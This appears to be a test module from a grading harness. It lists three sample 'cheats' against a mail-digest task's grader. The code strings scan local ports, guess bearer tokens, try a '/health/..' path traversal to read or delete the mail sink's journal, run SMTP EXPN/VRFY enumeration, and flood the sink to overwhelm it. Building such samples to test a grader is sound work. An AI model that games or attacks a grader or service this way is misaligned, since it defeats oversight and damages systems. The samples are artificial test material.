"""Week 9: digests that nobody claimed, and a mail sink that is to be read, emptied or drowned."""

from __future__ import annotations

from tests.cheats.making import LOOT, Cheat, instead, of_family

BY_HAND = """
def send_one(digest, subscriber, desk):
    import os
    message_id = message_id_of(digest.day, subscriber.subscriber_id, desk.domain)
    try:
        os.close(os.open(f"/tmp/{message_id}", os.O_CREAT | os.O_EXCL))
    except FileExistsError:
        return None
    with connect() as server:
        server.send_message(build_message(digest, subscriber, desk, message_id))
    return Outcome("sent")
"""
SINKS_MEMORY = """
import http.client, os
from urllib.parse import urlsplit
found = []
sink = urlsplit(os.environ["SMTP_URL"])
lines = open("/proc/net/tcp").read().splitlines()[1:]
ports = {int(l.split()[1].split(":")[1], 16) for l in lines if l.split()[3] == "0A"}
def answer(port, method, path, token):
    line = http.client.HTTPConnection("127.0.0.1", port, timeout=0.3)
    try:
        line.request(method, path, headers={"authorization": f"Bearer {token}"})
        got = line.getresponse()
        return got.status, got.read(200)
    except (OSError, http.client.HTTPException):
        return 0, b""
    finally:
        line.close()
base = f"/control/accounts/{sink.username}"
for port in {sink.port, *ports}:
    for token in ("", "local", sink.password, sink.username):
        for path in (f"{base}/journal", "/control/accounts", f"/health/..{base}/journal"):
            status, body = answer(port, "GET", path, token)
            if status == 200:
                found.append((port, path, body))
        if answer(port, "GET", "/health", "")[1] == b'{"status":"ok"}':
            if answer(port, "DELETE", base, token)[0] == 204:
                found.append((port, "deleted"))
with connect() as server:
    for command in ("EXPN all", "ETRN all", "VRFY all"):
        code, text = server.docmd(command)
        if code == 250:
            found.append((command, text))
raise RuntimeError(f"loot: {found}")
"""
DROWNING = """
if not globals().setdefault("drowned", []):
    drowned.append(True)
    with connect() as server:
        for _ in range(70):
            server.sendmail("a@mail.test", ["b@mail.test"], (b"a" * 900 + b"\\r\\n") * 1_100)
with connect() as server:
    server.send_message(message)
return Outcome("sent")
"""

_FAKING = of_family(
    "faking",
    [
        Cheat(
            name="mails-straight-into-the-sink",
            loses=("9.6",),
            story="Claims and records nothing: hands the messages over by itself, and keeps in a folder "
            "of its own who has got one.",
            says=("sent_at",),
            files=instead("9.6", also=BY_HAND),
        )
    ],
)

_READING = of_family(
    "reading",
    [
        Cheat(
            name="the-mail-sinks-memory",
            loses=("9.6",),
            story="Looks for the control plane of the mail sink, to read what arrived and to delete it, "
            "and asks the SMTP server for its mails.",
            says=(LOOT,),
            files=instead("9.6", "from pipeline.news.mail_server import connect\n" + SINKS_MEMORY),
        )
    ],
)

_HARMING = of_family(
    "harming",
    [
        Cheat(
            name="a-mail-sink-that-drowns",
            loses=("9.6",),
            story="Sends until the memory of the mail sink is full: the grader cannot read what arrived.",
            says=("The journal dropped",),
            files=instead("9.6", None, None, None, None, DROWNING),
        )
    ],
)

CHEATS = (*_FAKING, *_READING, *_HARMING)
"""The attacks on the mail sink."""
